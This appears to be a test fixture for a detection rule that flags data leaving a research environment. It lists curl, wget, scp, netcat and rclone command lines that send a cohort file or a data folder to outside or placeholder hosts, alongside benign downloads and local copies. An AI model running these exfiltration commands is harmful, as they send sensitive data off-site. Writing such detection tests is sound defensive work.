import { auditbeatStart, linuxStart, proof, set } from '../../proof';

export default proof({
  plain: true,
  hits: [
    set(
      'curl sends a file as a form',
      linuxStart({
        executable: '/usr/bin/curl',
        commandLine: 'curl -sSF file=@cohort.csv https://files.example.org',
      })
    ),
    set(
      'wget posts a file, seen by Auditbeat',
      auditbeatStart({
        executable: '/usr/bin/wget',
        commandLine: 'wget -q --post-file=cohort.csv http://203.0.113.5/in',
      })
    ),
    set(
      'scp copies to another machine',
      linuxStart({ executable: '/usr/bin/scp', commandLine: 'scp -r /mnt/data ada@203.0.113.5:/tmp' })
    ),
    set(
      'netcat sends what it is given, seen by Auditbeat',
      auditbeatStart({ executable: '/usr/bin/nc.openbsd', commandLine: 'nc -N 203.0.113.5 9001' })
    ),
    set(
      'rclone of an environment of conda copies to a bucket',
      linuxStart({
        executable: '/opt/conda/bin/rclone',
        commandLine: 'rclone --config c.ini copy /mnt/data remote:b',
      })
    ),
  ],
  misses: [
    set(
      'curl fetches a package from the mirror',
      linuxStart({
        executable: '/usr/bin/curl',
        commandLine: 'curl -fsSL -o lib.tgz http://mirror.tre.example/lib.tgz',
      })
    ),
    set(
      'wget fetches a page, seen by Auditbeat',
      auditbeatStart({ executable: '/usr/bin/wget', commandLine: 'wget -q http://mirror.tre.example/simple' })
    ),
    set(
      'rsync copies between folders',
      linuxStart({
        executable: '/usr/bin/rsync',
        commandLine: 'rsync -a /home/analyst/out/ /mnt/egress/out/',
      })
    ),
    set(
      'netcat looks whether a port is open, seen by Auditbeat',
      auditbeatStart({ executable: '/usr/bin/nc.openbsd', commandLine: 'nc -zv db.tre.example 5432' })
    ),
    set(
      'curl sends a cell to a kernel on the same machine',
      linuxStart({ executable: '/usr/bin/curl', commandLine: 'curl -d {} http://127.0.0.1:8888/api/kernels' })
    ),
  ],
});
